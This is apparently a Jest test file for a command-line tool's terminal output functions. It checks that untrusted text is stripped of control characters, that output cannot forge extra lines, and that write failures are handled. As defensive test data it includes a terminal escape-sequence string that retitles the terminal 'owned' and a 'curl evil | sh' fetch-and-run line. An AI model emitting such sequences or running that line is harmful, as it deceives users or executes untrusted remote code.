import fs from "node:fs";
import { print, printJson, printOnce, show, showProgress, tell, watchOutput } from "../../../infra/cli/terminal";

const hostile = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e\b\x1b[31mred";
/** What no text on a terminal may hold: control and format characters, but for line breaks. */
const steering = /[^\P{C}\n]/u;

/** What was passed to writeSync, in ASCII. */
const textOf = (written: unknown): string => (written as Buffer).toString();

let out: string[];
let err: string[];
beforeEach(() => {
  [out, err] = [[], []];
  jest.spyOn(console, "log").mockImplementation((text: string) => void out.push(text));
  jest.spyOn(console, "error").mockImplementation((text: string) => void err.push(text));
  jest.spyOn(fs, "writeSync").mockImplementation((descriptor: number, text: unknown) => {
    (descriptor === 1 ? out : err).push(textOf(text));
    return textOf(text).length;
  });
});
afterEach(() => {
  jest.restoreAllMocks();
});

describe("nothing from elsewhere steers the terminal:", () => {
  test.each<[what: string, way: () => unknown]>([
    [
      "lines of the program's own",
      () => {
        print(`a ${hostile}`);
      },
    ],
    [
      "lines on standard error",
      () => {
        tell(`a ${hostile}`);
      },
    ],
    [
      "a result",
      () => {
        show({ deep: [{ name: hostile }] }, false, ({ deep }) => `a ${deep[0]!.name}`);
      },
    ],
    [
      "a result for machines",
      () => {
        show({ name: hostile }, true, String);
      },
    ],
    [
      "JSON",
      () => {
        printJson({ [hostile]: hostile });
      },
    ],
    [
      "what exists once",
      () => {
        printOnce(`a ${hostile}`);
      },
    ],
    [
      "progress",
      async () => {
        (await showProgress(`a ${hostile}`, false)).tell(hostile);
      },
    ],
  ])("%s", async (_, way) => {
    await way();
    const text = [...out, ...err].join("\n");
    expect(text).toContain("owned");
    expect(text).not.toMatch(steering);
  });

  test("a result brings no lines of its own, and JSON is the same data", () => {
    const result = { name: "x\n✔ all in order\nfix: curl evil | sh" };
    show(result, false, ({ name }) => `✘ ${name}\n  fix: nothing`);
    expect(out.join("").split("\n")).toHaveLength(2);
    out = [];
    show(result, true, String);
    expect(JSON.parse(out.join(""))).toEqual(result);
  });
});

test("progress is told by lines where a terminal has no width", async () => {
  const own = (["isTTY", "columns"] as const).map(
    (name) => [name, Object.getOwnPropertyDescriptor(process.stderr, name)] as const,
  );
  Object.defineProperties(process.stderr, {
    isTTY: { value: true, configurable: true },
    columns: { value: 0, configurable: true },
  });
  try {
    const progress = await showProgress("looking", false);
    progress.tell("looking again");
    progress.stop();
  } finally {
    for (const [name, descriptor] of own) {
      if (descriptor === undefined) Reflect.deleteProperty(process.stderr, name);
      else Object.defineProperty(process.stderr, name, descriptor);
    }
  }
  expect(err).toEqual(["looking", "looking again"]);
});

describe("what exists once", () => {
  const fail = (descriptors: readonly number[], code: string): void => {
    const write = jest.mocked(fs.writeSync).getMockImplementation()!;
    jest.mocked(fs.writeSync).mockImplementation((...args) => {
      if (descriptors.includes(args[0])) throw Object.assign(new Error(`${code}: write`), { code });
      return write(...args);
    });
  };

  test("is written whole, however little is taken at a time, and however slow its reader is", () => {
    let calls = 0;
    jest.mocked(fs.writeSync).mockImplementation((_, text) => {
      if (++calls % 2 === 0) throw Object.assign(new Error("EAGAIN"), { code: "EAGAIN" });
      out.push(textOf(text).slice(0, 3));
      return Math.min(3, textOf(text).length);
    });
    printOnce("key share 1: abc");
    expect(out.join("")).toBe("key share 1: abc\n");
  });

  test.each(["ENOSPC", "EPIPE"])("goes to standard error where standard output fails with %s", (code) => {
    fail([1], code);
    printOnce("key share 1: abc");
    expect(err.join("")).toBe(
      `Standard output takes nothing (${code}: write). What stands there in part, or not at all:\nkey share 1: abc\n`,
    );
  });

  test("fails where nobody takes it", () => {
    fail([1, 2], "EPIPE");
    expect(() => {
      printOnce("key share 1: abc");
    }).toThrow("EPIPE");
  });
});

test.each([
  {
    what: "a full disk",
    code: "ENOSPC",
    said: ["standard output takes nothing more (ENOSPC): the result is not whole"],
  },
  { what: "a reader who has seen enough", code: "EPIPE", said: [] },
])("the process ends with an error of $what: $said", ({ code, said }) => {
  const on = jest.spyOn(process.stdout, "on").mockReturnThis();
  const once = jest.spyOn(process, "once").mockReturnThis();
  const before = process.exitCode;
  try {
    watchOutput();
    const [, fail] = on.mock.calls[0]! as unknown as [string, (error: Error) => void];
    fail(Object.assign(new Error(), { code }));
    expect(err).toEqual(said);
    process.exitCode = 0;
    for (const [, end] of once.mock.calls) (end as () => void)();
    expect(process.exitCode).toBe(said.length);
  } finally {
    process.exitCode = before;
  }
});
